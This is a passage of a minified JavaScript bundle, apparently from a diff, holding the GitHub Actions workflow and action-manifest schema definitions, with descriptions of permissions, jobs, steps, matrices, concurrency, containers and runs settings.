file.","one-of":["string","boolean","number"]},permissions:{description:"You can use `permissions` to modify the default permissions granted to the `GITHUB_TOKEN`, adding or removing access as required, so that you only allow the minimum required access.\n\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#permissions)","one-of":["permissions-mapping","permission-level-shorthand-read-all","permission-level-shorthand-write-all"]},"permissions-mapping":{mapping:{properties:{actions:{type:"permission-level-any",description:"Actions workflows, workflow runs, and artifacts."},"artifact-metadata":{type:"permission-level-any",description:"Storage and deployment records for build artifacts."},attestations:{type:"permission-level-any",description:"Artifact attestations."},checks:{type:"permission-level-any",description:"Check runs and check suites."},"code-quality":{type:"permission-level-any",description:"Code quality data."},contents:{type:"permission-level-any",description:"Repository contents, commits, branches, downloads, releases, and merges."},"copilot-requests":{type:"permission-level-write-or-no-access",description:"GitHub Copilot requests."},deployments:{type:"permission-level-any",description:"Deployments and deployment statuses."},discussions:{type:"permission-level-any",description:"Discussions and related comments and labels."},drives:{type:"permission-level-any",description:"GitHub Drives persistent workspace storage. Use `read` for checkout and `write` to commit changes."},"id-token":{type:"permission-level-write-or-no-access",description:"Token to request an OpenID Connect token."},issues:{type:"permission-level-any",description:"Issues and related comments, assignees, labels, and milestones."},models:{type:"permission-level-read-or-no-access",description:"Call AI models with GitHub Models."},packages:{type:"permission-level-any",description:"Packages published to the GitHub Package Platform."},pages:{type:"permission-level-any",description:"Retrieve Pages statuses, configuration, and builds, as well as create new builds."},"pull-requests":{type:"permission-level-any",description:"Pull requests and related comments, assignees, labels, milestones, and merges."},"repository-projects":{type:"permission-level-any",description:"Classic projects within a repository."},"security-events":{type:"permission-level-any",description:"Code scanning alerts."},statuses:{type:"permission-level-any",description:"Commit statuses."},"vulnerability-alerts":{type:"permission-level-read-or-no-access",description:"Dependabot alerts."}}}},"permission-level-any":{description:"The permission level for the `GITHUB_TOKEN`.","one-of":["permission-level-read","permission-level-write","permission-level-no-access"]},"permission-level-read-or-no-access":{"one-of":["permission-level-read","permission-level-no-access"]},"permission-level-write-or-no-access":{"one-of":["permission-level-write","permission-level-no-access"]},"permission-level-read":{description:"The permission level for the `GITHUB_TOKEN`. Grants `read` permission for the specified scope.",string:{constant:"read"}},"permission-level-write":{description:"The permission level for the `GITHUB_TOKEN`. Grants `write` permission for the specified scope.",string:{constant:"write"}},"permission-level-no-access":{description:"The permission level for the `GITHUB_TOKEN`. Restricts all access for the specified scope.",string:{constant:"none"}},"permission-level-shorthand-read-all":{description:"The permission level for the `GITHUB_TOKEN`. Grants `read` access for all scopes.",string:{constant:"read-all"}},"permission-level-shorthand-write-all":{description:"The permission level for the `GITHUB_TOKEN`. Grants `write` access for all scopes.",string:{constant:"write-all"}},"workflow-defaults":{description:"Use `defaults` to create a map of default settings that will apply to all jobs in the workflow. You can also set default settings that are only available to a job.\n\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#defaults)",mapping:{properties:{run:"workflow-defaults-run"}}},"workflow-defaults-run":{mapping:{properties:{shell:"shell","working-directory":"working-directory"}}},"workflow-env":{description:`A map of environment variables that are available to the steps of all jobs in the workflow. You can also set environment variables that are only available to the steps of a single job or to a single step.
+
+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#env)`,context:["github","inputs","vars","secrets"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},jobs:{description:"A workflow run is made up of one or more `jobs`, which run in parallel by default. To run jobs sequentially, you can define dependencies on other jobs using the `jobs.<job_id>.needs` keyword. Each job runs in a runner environment specified by `runs-on`.\n\n[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#jobs)",mapping:{"loose-key-type":"job-id","loose-value-type":"job"}},"job-id":{string:{"require-non-empty":!0},description:"A unique identifier for the job. The identifier must start with a letter or _ and contain only alphanumeric characters, -, or _."},job:{description:"Each job must have an id to associate with the job. The key `job_id` is a string and its value is a map of the job's configuration data. You must replace `<job_id>` with a string that is unique to the jobs object. The `<job_id>` must start with a letter or _ and contain only alphanumeric characters, -, or _.","one-of":["job-factory","workflow-job"]},"job-factory":{mapping:{properties:{needs:"needs",if:"job-if",strategy:"strategy",name:{type:"string-strategy-context",description:"The name of the job displayed on GitHub."},"runs-on":{type:"runs-on",required:!0},"timeout-minutes":{type:"number-strategy-context",description:"The maximum number of minutes to let a workflow run before GitHub automatically cancels it. Default: 360"},"cancel-timeout-minutes":"number-strategy-context","continue-on-error":{type:"boolean-strategy-context",description:"Prevents a workflow run from failing when a job fails. Set to true to allow a workflow run to pass when this job fails."},container:"container",services:"services",env:"job-env",environment:"job-environment",permissions:"permissions",concurrency:"job-concurrency",outputs:"job-outputs",defaults:"job-defaults",steps:"steps",snapshot:"snapshot"}}},"workflow-job":{mapping:{properties:{name:{type:"string-strategy-context",description:"The name of the job displayed on GitHub."},uses:{description:`The location and version of a reusable workflow file to run as a job. Use one of the following formats:
+
+* \`{owner}/{repo}/.github/workflows/{filename}@{ref}\` for reusable workflows in public and private repositories.
+* \`./.github/workflows/{filename}\` for reusable workflows in the same repository.
+
+{ref} can be a SHA, a release tag, or a branch name. Using the commit SHA is the safest for stability and security.`,type:"non-empty-string",required:!0},with:"workflow-job-with",secrets:"workflow-job-secrets",needs:"needs",if:"job-if",permissions:"permissions",concurrency:"job-concurrency",strategy:"strategy"}}},"workflow-job-with":{description:"When a job is used to call a reusable workflow, you can use `with` to provide a map of inputs that are passed to the called workflow.\n\nAny inputs that you pass must match the input specifications defined in the called workflow.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"scalar-needs-context"}},"workflow-job-secrets":{description:"When a job is used to call a reusable workflow, you can use `secrets` to provide a map of secrets that are passed to the called workflow.\n\nAny secrets that you pass must match the names defined in the called workflow.","one-of":["workflow-job-secrets-mapping","workflow-job-secrets-inherit"]},"workflow-job-secrets-mapping":{mapping:{"loose-key-type":"non-empty-string","loose-value-type":"scalar-needs-context-with-secrets"}},"workflow-job-secrets-inherit":{string:{constant:"inherit"}},needs:{description:"Use `needs` to identify any jobs that must complete successfully before this job will run. It can be a string or array of strings. If a job fails, all jobs that need it are skipped unless the jobs use a conditional expression that causes the job to continue. If a run contains a series of jobs that need each other, a failure applies to all jobs in the dependency chain from the point of failure onwards.","one-of":["sequence-of-non-empty-string","non-empty-string"]},"job-if":{description:"You can use the `if` conditional to prevent a job from running unless a condition is met. You can use any supported context and expression to create a conditional.",context:["github","inputs","vars","needs","always(0,0)","failure(0,MAX)","cancelled(0,0)","success(0,MAX)"],string:{}},"job-if-result":{context:["github","inputs","vars","needs","always(0,0)","failure(0,MAX)","cancelled(0,0)","success(0,MAX)"],"one-of":["null","boolean","number","string","sequence","mapping"]},strategy:{description:"Use `strategy` to use a matrix strategy for your jobs. A matrix strategy lets you use variables in a single job definition to automatically create multiple job runs that are based on the combinations of the variables. ",context:["github","inputs","vars","needs"],mapping:{properties:{"fail-fast":{type:"boolean",description:"Setting `fail-fast` to `false` prevents GitHub from canceling all in-progress jobs if any matrix job fails. Default: `true`"},"max-parallel":{type:"number",description:"The maximum number of jobs that can run simultaneously when using a matrix job strategy. By default, GitHub will maximize the number of jobs run in parallel depending on runner availability."},matrix:"matrix"}}},matrix:{description:"Use `matrix` to define a matrix of different job configurations. Within your matrix, define one or more variables followed by an array of values.",mapping:{properties:{include:{type:"matrix-filter",description:"Use `include` to expand existing matrix configurations or to add new configurations. The value of `include` is a list of objects.\n\nFor each object in the `include` list, the key:value pairs in the object will be added to each of the matrix combinations if none of the key:value pairs overwrite any of the original matrix values. If the object cannot be added to any of the matrix combinations, a new matrix combination will be created instead. Note that the original matrix values will not be overwritten, but added matrix values can be overwritten."},exclude:{type:"matrix-filter",description:"To remove specific configurations defined in the matrix, use `exclude`. An excluded configuration only has to be a partial match for it to be excluded."}},"loose-key-type":"non-empty-string","loose-value-type":"sequence"}},"matrix-filter":{sequence:{"item-type":"matrix-filter-item"}},"matrix-filter-item":{mapping:{"loose-key-type":"non-empty-string","loose-value-type":"any"}},snapshot:{description:"Use `snapshot` to define a custom image you want to create or update after your job succeeds by taking a snapshot of your runner.","one-of":["non-empty-string","snapshot-mapping"]},"snapshot-mapping":{mapping:{properties:{"image-name":{description:"The desired name of the custom image you want to create or update.",type:"non-empty-string",required:!0},if:"snapshot-if",version:{description:"The desired major version updates upon a new custom image version creation.",type:"non-empty-string"}}}},"snapshot-if":{context:["github","inputs","vars","needs","strategy","matrix"],description:"Use the if conditional to prevent a snapshot from being taken unless a condition is met. Any supported context and expression can be used to create a conditional. Expressions in an `if` conditional do not require the bracketed expression syntax. When you use expressions in an `if` conditional, you may omit the expression syntax because GitHub automatically evaluates the `if` conditional as an expression.",string:{}},"runs-on":{description:"Use `runs-on` to define the type of machine to run the job on.\n* The destination machine can be either a GitHub-hosted runner, larger runner, or a self-hosted runner.\n* You can target runners based on the labels assigned to them, or their group membership, or a combination of these.\n* You can provide `runs-on` as a single string or as an array of strings.\n* If you specify an array of strings, your workflow will execute on any runner that matches all of the specified `runs-on` values.\n* If you would like to run your workflow on multiple machines, use `jobs.<job_id>.strategy`.",context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","sequence-of-non-empty-string","runs-on-mapping"]},"runs-on-mapping":{mapping:{properties:{group:{description:"The group from which to select a runner.",type:"non-empty-string"},labels:"runs-on-labels"}}},"runs-on-labels":{description:"The label by which to filter for available runners.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"job-env":{description:"A map of variables that are available to all steps in the job.",context:["github","inputs","vars","needs","strategy","matrix","secrets"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"workflow-concurrency":{description:`Concurrency ensures that only a single job or workflow using the same concurrency group will run at a time. A concurrency group can be any string or expression.
+
+You can also specify \`concurrency\` at the job level.
+
+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#concurrency)`,context:["github","inputs","vars"],"one-of":["string","concurrency-mapping"]},"job-concurrency":{description:"Concurrency ensures that only a single job using the same concurrency group will run at a time. A concurrency group can be any string or expression. The expression can use any context except for the `secrets` context.\n\nYou can also specify `concurrency` at the workflow level.",context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","concurrency-mapping"]},"concurrency-mapping":{description:`Concurrency ensures that only a single job or workflow using the same concurrency group will run at a time. A concurrency group can be any string or expression.
+
+You can also specify \`concurrency\` at the job level.
+
+[Documentation](https://docs.github.com/actions/using-workflows/workflow-syntax-for-github-actions#concurrency)`,mapping:{properties:{group:{type:"non-empty-string",required:!0,description:"When a concurrent job or workflow is queued, if another job or workflow using the same concurrency group in the repository is in progress, the queued job or workflow will be `pending`. Any previously pending job or workflow in the concurrency group will be canceled. To also cancel any currently running job or workflow in the same concurrency group, specify `cancel-in-progress: true`."},"cancel-in-progress":{type:"boolean",description:"To cancel any currently running job or workflow in the same concurrency group, specify cancel-in-progress: true."},queue:{type:"concurrency-queue",description:"The queuing mode for the concurrency group. When set to `max`, workflows or jobs will wait in a queue for the concurrency group up to the maximum queue length. Default: `single` meaning at most one item can be pending."}}}},"concurrency-queue":{"allowed-values":["single","max"]},"job-environment":{description:"The environment that the job references. All environment protection rules must pass before a job referencing the environment is sent to a runner.",context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","job-environment-mapping"]},"job-environment-mapping":{mapping:{properties:{name:{type:"job-environment-name",required:!0},url:{type:"string-runner-context-no-secrets",description:"The environment URL, which maps to `environment_url` in the deployments API."},deployment:{type:"boolean",description:"Whether to create a deployment record for this environment. Defaults to true."}}}},"job-environment-name":{description:"The name of the environment used by the job.",context:["github","inputs","vars","needs","strategy","matrix"],string:{}},"job-defaults":{description:"A map of default settings that will apply to all steps in the job. You can also set default settings for the entire workflow.",mapping:{properties:{run:"job-defaults-run"}}},"job-defaults-run":{context:["github","inputs","vars","strategy","matrix","needs","env"],mapping:{properties:{shell:"shell","working-directory":"working-directory"}}},"job-outputs":{description:"A map of outputs for a called workflow. Called workflow outputs are available to all downstream jobs in the caller workflow. Each output has an identifier, an optional `description,` and a `value`. The `value` must be set to the value of an output from a job within the called workflow.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string-runner-context"}},steps:{description:"A job contains a sequence of tasks called `steps`. Steps can run commands, run setup tasks, run an action in your repository, a public repository, or an action published in a Docker registry, wait for background steps to complete, or cancel a background step. Not all steps run actions, but all actions run as a step. Each step runs in its own process in the runner environment and has access to the workspace and filesystem. Because steps run in their own process, changes to environment variables are not preserved between steps. GitHub provides built-in steps to set up and complete a job.",sequence:{"item-type":"steps-item"}},"steps-item":{"one-of":["run-step","regular-step","wait-step","wait-all-step","cancel-step","parallel-step"]},"run-step":{mapping:{properties:{name:"step-name",id:"step-id",if:"step-if","timeout-minutes":"step-timeout-minutes",run:{type:"string-steps-context",description:"Runs command-line programs using the operating system's shell. If you do not provide a `name`, the step name will default to the text specified in the `run` command. Commands run using non-login shells by default. You can choose a different shell and customize the shell used to run commands. Each `run` keyword represents a new process and shell in the virtual environment. When you provide multi-line commands, each line runs in the same shell.",required:!0},"continue-on-error":"step-continue-on-error",env:"step-env","working-directory":"string-steps-context",shell:"shell",background:"step-background"}}},"regular-step":{mapping:{properties:{name:"step-name",id:"step-id",if:"step-if","continue-on-error":"step-continue-on-error","timeout-minutes":"step-timeout-minutes",uses:{type:"step-uses",required:!0},with:"step-with",env:"step-env",background:"step-background"}}},"wait-step":{mapping:{properties:{name:"step-name",id:"step-id","continue-on-error":"step-continue-on-error",wait:{type:"step-wait-target",required:!0}}}},"wait-all-step":{mapping:{properties:{name:"step-name",id:"step-id","continue-on-error":"step-continue-on-error","wait-all":{type:"step-wait-all-value",required:!0}}}},"cancel-step":{mapping:{properties:{name:"step-name",id:"step-id","continue-on-error":"step-continue-on-error",cancel:{type:"step-cancel-target",required:!0}}}},"parallel-step":{mapping:{properties:{parallel:{type:"parallel-steps",required:!0,description:"Run a group of steps concurrently. All steps in the parallel block run as background steps and the workflow waits for all of them to complete before continuing."}}}},"parallel-steps":{sequence:{"item-type":"steps-item"}},"step-uses":{description:"Selects an action to run as part of a step in your job. An action is a reusable unit of code. You can use an action defined in the same repository as the workflow, a public repository, a [private repository with access enabled](https://docs.github.com/en/repositories/managing-your-repositorys-settings-and-features/enabling-features-for-your-repository/managing-github-actions-settings-for-a-repository#allowing-access-to-components-in-a-private-repository), or in a published Docker container image.",string:{"require-non-empty":!0}},"step-background":{boolean:{},description:"When set to true, runs this step in the background. The workflow continues to the next step immediately without waiting for the background step to finish."},"step-wait-target":{description:"The step ID or IDs of background steps to wait for.","one-of":["non-empty-string","sequence-of-non-empty-string"]},"step-wait-all-value":{description:"Wait for all prior background steps to complete. Use as a bare key (`wait-all:`) or with a boolean value.","one-of":["null","boolean"]},"step-cancel-target":{description:"The step ID of a background step to cancel.",string:{"require-non-empty":!0}},"step-continue-on-error":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],boolean:{},description:"Prevents a job from failing when a step fails. Set to `true` to allow a job to pass when this step fails."},"step-id":{string:{"require-non-empty":!0},description:"A unique identifier for the step. You can use the `id` to reference the step in contexts."},"step-if":{context:["github","inputs","vars","needs","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],description:"Use the `if` conditional to prevent a step from running unless a condition is met. Any supported context and expression can be used to create a conditional. Expressions in an `if` conditional do not require the bracketed expression syntax. When you use expressions in an `if` conditional, you may omit the expression syntax because GitHub automatically evaluates the `if` conditional as an expression.",string:{}},"step-if-result":{context:["github","inputs","vars","strategy","matrix","steps","job","runner","env","always(0,0)","failure(0,0)","cancelled(0,0)","success(0,0)","hashFiles(1,255)"],"one-of":["null","boolean","number","string","sequence","mapping"]},"step-env":{description:"Sets variables for steps to use in the runner environment. You can also set variables for the entire workflow or a job.",context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"step-name":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],string:{},description:"A name for your step to display on GitHub."},"step-timeout-minutes":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],number:{},description:"The maximum number of minutes to run the step before killing the process."},"step-with":{description:"A map of the input parameters defined by the action. Each input parameter is a key/value pair. Input parameters are set as variables. When you specify an input in a workflow file or use a default input value, GitHub creates a variable for the input with the name `INPUT_<VARIABLE_NAME>`. The variable created converts input names to uppercase letters and replaces spaces with `_`.",context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},container:{description:`A container to run any steps in a job that don't already specify a container. If you have steps that use both script and container actions, the container actions will run as sibling containers on the same network with the same volume mounts.
+
+If you do not set a container, all steps will run directly on the host specified by runs-on unless a step refers to an action configured to run in a container.`,context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","container-mapping"]},"container-mapping":{mapping:{properties:{image:{type:"non-empty-string",description:"Use `jobs.<job_id>.container.image` to define the Docker image to use as the container to run the action. The value can be the Docker Hub image or a registry name."},options:{type:"string",description:"Use `jobs.<job_id>.container.options` to configure additional Docker container resource options."},env:"container-env",ports:{type:"sequence-of-non-empty-string",description:"Use `jobs.<job_id>.container.ports` to set an array of ports to expose on the container."},volumes:{type:"sequence-of-non-empty-string",description:"Use `jobs.<job_id>.container.volumes` to set an array of volumes for the container to use. You can use volumes to share data between services or other steps in a job. You can specify named Docker volumes, anonymous Docker volumes, or bind mounts on the host."},credentials:"container-registry-credentials"}}},services:{description:"Additional containers to host services for a job in a workflow. These are useful for creating databases or cache services like redis. The runner on the virtual machine will automatically create a network and manage the life cycle of the service containers. When you use a service container for a job or your step uses container actions, you don't need to set port information to access the service. Docker automatically exposes all ports between containers on the same network. When both the job and the action run in a container, you can directly reference the container by its hostname. The hostname is automatically mapped to the service name. When a step does not use a container action, you must access the service using localhost and bind the ports.",context:["github","inputs","vars","needs","strategy","matrix"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"services-container"}},"services-container":{context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["non-empty-string","service-container-mapping"]},"container-registry-credentials":{description:"If the image's container registry requires authentication to pull the image, you can use `jobs.<job_id>.container.credentials` to set a map of the username and password. The credentials are the same values that you would provide to the `docker login` command.",context:["github","inputs","vars","secrets","env"],mapping:{properties:{username:"non-empty-string",password:"non-empty-string"}}},"container-env":{description:"Use `jobs.<job_id>.container.env` to set a map of variables in the container.",mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string-runner-context"}},"non-empty-string":{string:{"require-non-empty":!0}},"sequence-of-non-empty-string":{sequence:{"item-type":"non-empty-string"}},"sequence-of-string":{sequence:{"item-type":"string"}},"boolean-needs-context":{context:["github","inputs","vars","needs"],boolean:{}},"number-needs-context":{context:["github","inputs","vars","needs"],number:{}},"string-needs-context":{context:["github","inputs","vars","needs"],string:{}},"scalar-needs-context":{context:["github","inputs","vars","needs","strategy","matrix"],"one-of":["string","boolean","number"]},"scalar-needs-context-with-secrets":{context:["github","inputs","vars","needs","secrets","strategy","matrix"],"one-of":["string","boolean","number"]},"boolean-strategy-context":{context:["github","inputs","vars","needs","strategy","matrix"],boolean:{}},"number-strategy-context":{context:["github","inputs","vars","needs","strategy","matrix"],number:{}},"string-strategy-context":{context:["github","inputs","vars","needs","strategy","matrix"],string:{}},"boolean-steps-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],boolean:{}},"number-steps-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],number:{}},"string-runner-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env"],string:{}},"string-runner-context-no-secrets":{context:["github","inputs","vars","needs","strategy","matrix","steps","job","runner","env"],string:{}},"string-steps-context":{context:["github","inputs","vars","needs","strategy","matrix","secrets","steps","job","runner","env","hashFiles(1,255)"],string:{}},shell:{string:{"require-non-empty":!0},description:"Use `shell` to override the default shell settings in the runner's operating system. You can use built-in shell keywords, or you can define a custom set of shell options. The shell command that is run internally executes a temporary file that contains the commands specified in `run`."},"working-directory":{string:{"require-non-empty":!0},description:"The `working-directory` keyword specifies the working directory where the command is run."},"cron-mapping":{mapping:{properties:{cron:{type:"cron-pattern",required:!0},timezone:"timezone-string"}}},"cron-pattern":{description:"A cron expression that represents a schedule. A scheduled workflow will run at most once every 5 minutes.",string:{"require-non-empty":!0}},"timezone-string":{description:"A string that represents the time zone a scheduled workflow will run relative to in IANA format (e.g. 'America/New_York' or 'Europe/London'). If omitted, the workflow will run relative to midnight UTC.",string:{"require-non-empty":!0}},"service-container-mapping":{mapping:{properties:{image:{type:"non-empty-string",description:"The Docker image to use as the container. The value can be the Docker Hub image or a registry name."},options:{type:"string",description:"Additional Docker container resource options."},env:"container-env",ports:{type:"sequence-of-non-empty-string",description:"An array of ports to expose on the container."},volumes:{type:"sequence-of-non-empty-string",description:"An array of volumes for the container to use. You can use volumes to share data between services or other steps in a job. You can specify named Docker volumes, anonymous Docker volumes, or bind mounts on the host."},credentials:"container-registry-credentials",entrypoint:{type:"string",description:"Override the default ENTRYPOINT in the service container image."},command:{type:"string",description:"Override the default CMD in the service container image."}}}}}};var Xh={source:"@actions/workflow-parser@0.3.61 dist/action-v1.0.min.json (MIT)",definitions:{"action-root":{description:"Action file",mapping:{properties:{name:"string",description:"string",inputs:"inputs",outputs:"outputs",runs:"runs"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"action-root-strict":{description:`GitHub Action manifest file (action.yml/action.yaml) that defines an action's metadata, inputs, outputs, and execution configuration.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions)`,mapping:{properties:{name:{type:"non-empty-string",required:!0,description:`The name of your action. GitHub displays the name in the Actions tab to help visually identify actions in each job.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#name)`},description:{type:"string",required:!0,description:`A short description of the action. GitHub displays this description in the Actions Marketplace.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#description)`},author:{type:"string",description:`The name of the action's author.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#author)`},inputs:"inputs-strict",outputs:"outputs",runs:{type:"runs-strict",required:!0},branding:"branding"}}},inputs:{mapping:{"loose-key-type":"non-empty-string","loose-value-type":"input"}},"inputs-strict":{description:`Input parameters allow you to specify data that the action expects to use during runtime. GitHub stores input parameters as environment variables. Inputs ids with uppercase letters are converted to lowercase during runtime.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputs)`,mapping:{"loose-key-type":"non-empty-string","loose-value-type":"input-strict"}},input:{mapping:{properties:{default:"input-default-context"},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"input-strict":{description:"An input parameter for this action.",mapping:{properties:{description:{type:"string",description:`A string description of the input parameter.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddescription)`},required:{type:"boolean",description:`A boolean to indicate whether the action requires the input parameter. Set to true when the parameter is required.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_idrequired)`},default:{type:"input-default-context",description:`A string representing the default value. The default value is used when an input parameter isn't specified in a workflow file.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddefault)`},deprecationMessage:{type:"string",description:`A string shown to users using the deprecated input, warning them that the input is deprecated and mentioning any alternatives.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddeprecationmessage)`}},"loose-key-type":"non-empty-string","loose-value-type":"any"}},"input-default-context":{description:`A string representing the default value. The default value is used when an input parameter isn't specified in a workflow file.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#inputsinput_iddefault)`,context:["github","strategy","matrix","job","runner","hashFiles(1,255)"],string:{}},outputs:{description:`Output parameters allow you to declare data that an action sets. Actions that run later in a workflow can use the output data set in previously run actions.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputs-for-composite-actions)`,mapping:{"loose-key-type":"non-empty-string","loose-value-type":"output-definition"}},"output-definition":{description:"An output parameter for this action.",mapping:{properties:{description:{type:"string",description:`A string description of the output parameter.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_iddescription)`},value:{type:"output-value",description:`The value that the output parameter will be mapped to. You can set this to a string or an expression with context.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_idvalue)`}}}},"output-value":{description:`The value that the output parameter will be mapped to. You can set this to a string or an expression with context.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#outputsoutput_idvalue)`,context:["github","strategy","matrix","steps","inputs","job","runner","env"],string:{}},"runs-if":{description:"Condition to control when this action's pre or post script runs.",context:["runner","github","job","strategy","matrix","env","inputs","always(0,0)","success(0,0)","failure(0,0)","cancelled(0,0)","hashFiles(1,255)"],string:{}},runs:{"one-of":["container-runs","node-runs","composite-runs","plugin-runs"]},"runs-strict":{description:`Specifies whether this is a JavaScript action, a composite action, or a Docker container action and how the action is executed.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,"one-of":["container-runs-strict","node-runs-strict","composite-runs-strict"]},"plugin-runs":{mapping:{properties:{plugin:"non-empty-string"}}},"container-runs":{mapping:{properties:{using:"non-empty-string",image:"non-empty-string",entrypoint:"non-empty-string",args:"container-runs-args",env:"container-runs-env","pre-entrypoint":"non-empty-string","pre-if":"non-empty-string","post-entrypoint":"non-empty-string","post-if":"non-empty-string"}}},"container-runs-args":{description:`An array of strings that define the inputs for a Docker container. Inputs can include hardcoded strings. GitHub passes the args to the container's ENTRYPOINT when the container starts up.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsargs)`,sequence:{"item-type":"container-runs-context"}},"container-runs-env":{description:`Specifies a key/value map of environment variables to set in the container environment.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsenv)`,context:["inputs"],mapping:{"loose-key-type":"non-empty-string","loose-value-type":"string"}},"container-runs-context":{context:["inputs"],string:{}},"node-runs":{mapping:{properties:{using:"non-empty-string",main:"non-empty-string",pre:"non-empty-string","pre-if":"non-empty-string",post:"non-empty-string","post-if":"non-empty-string"}}},"composite-runs":{mapping:{properties:{using:"non-empty-string",steps:"composite-steps"}}},"container-runs-strict":{description:`Configuration for Docker container actions.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,mapping:{properties:{using:{type:"using",required:!0,description:`The runtime used to execute the action. Must be docker for Docker container actions.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)`},image:{type:"non-empty-string",required:!0,description:`The Docker image to use as the container to run the action. The value can be the Docker base image name, a local Dockerfile in your repository, or a public image in Docker Hub or another registry.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsimage)`},entrypoint:{type:"non-empty-string",description:`Overrides the Docker ENTRYPOINT in the Dockerfile, or sets it if one wasn't already specified.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsentrypoint)`},args:"container-runs-args",env:"container-runs-env","pre-entrypoint":{type:"non-empty-string",description:`Allows you to run a script before the entrypoint action begins.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-entrypoint)`},"pre-if":{type:"runs-if",description:`Allows you to define conditions for the pre: action execution. The pre: action will only run if the conditions in pre-if are met. If not set, then pre-if defaults to always().
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-if)`},"post-entrypoint":{type:"non-empty-string",description:`Allows you to run a cleanup script once the runs.entrypoint action has completed.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-entrypoint)`},"post-if":{type:"runs-if",description:`Allows you to define conditions for the post: action execution. The post: action will only run if the conditions in post-if are met. If not set, then post-if defaults to always().
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspost-if)`}}}},"node-runs-strict":{description:`Configuration for JavaScript actions executed with Node.js.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runs)`,mapping:{properties:{using:{type:"using",required:!0,description:`The runtime used to execute the action. Use node20 or node24 for JavaScript actions.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsusing)`},main:{type:"non-empty-string",required:!0,description:`The file that contains your action code. The runtime specified in using executes this file.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runsmain)`},pre:{type:"non-empty-string",description:`Allows you to run a script at the start of a job, before the main: action begins. You can use pre: to run prerequisite setup scripts.
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre)`},"pre-if":{type:"runs-if",description:`Allows you to define conditions for the pre: action execution. The pre: action will only run if the conditions in pre-if are met. If not set, then pre-if defaults to always().
+
+[Documentation](https://docs.github.com/actions/creating-actions/metadata-syntax-for-github-actions#runspre-if)`},post:{type:"non-empty-string",description:`Allows you to run a script at the end of a job, once the main: action has completed. You can use post: to run cleanup scripts.
+
